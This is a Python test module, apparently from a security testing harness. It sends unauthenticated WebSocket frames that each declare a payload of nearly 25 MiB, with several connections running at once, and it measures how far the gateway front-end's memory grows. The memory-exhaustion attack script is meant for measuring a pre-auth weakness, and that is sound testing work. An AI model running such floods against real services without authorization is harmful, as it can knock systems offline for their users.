"""(a) Pre-auth frames declaring 25 MiB: how much the front-end's RSS grows while they arrive."""

from __future__ import annotations

import asyncio
from typing import Any

import psutil

from .rawws import OP_TEXT, RawWS, UpgradeRefused, frame
from .target import Target

FRAME_BYTES = 25 * 1024 * 1024 - 1  # just under the post-auth maxPayload (26,214,400)
CHUNK = 256 * 1024


async def attack_oversize_preauth(t: Target, frames: int = 10) -> dict[str, Any]:
    pid = t.frontend_pid()
    if pid is None:
        return {"error": "front-end PID not found (is the gateway on this host?)"}
    proc = psutil.Process(pid)
    base = proc.memory_info().rss
    peak = base
    done = asyncio.Event()

    async def sample() -> None:
        nonlocal peak
        while not done.is_set():
            try:
                peak = max(peak, proc.memory_info().rss)
            except psutil.Error:
                return
            await asyncio.sleep(0.01)

    async def one() -> str:
        try:
            ws = await RawWS.open(t.host, t.port)
        except UpgradeRefused as exc:
            return f"HTTP {exc.status}"
        try:
            await ws.recv_json()
            await ws.send(frame(b"", OP_TEXT, length=FRAME_BYTES))  # header + mask key; the payload follows
            chunk = b"x" * CHUNK
            sent = 0
            while sent < FRAME_BYTES:
                n = min(CHUNK, FRAME_BYTES - sent)
                try:
                    await ws.send(chunk[:n])
                except (ConnectionError, OSError):
                    break
                sent += n
            code, _ = await ws.until_close(10)
            return str(code)
        finally:
            ws.close()

    sampler = asyncio.create_task(sample())
    codes = await asyncio.gather(*(one() for _ in range(frames)))
    await asyncio.sleep(0.1)
    done.set()
    await sampler
    grown = (peak - base) / 2**20
    return {
        "figure": f"+{grown:.0f} MiB peak RSS from {frames} pre-auth {FRAME_BYTES / 2**20:.0f} MiB frames",
        "rss_growth_mib": round(grown, 1), "close_codes": sorted(set(codes)),
    }
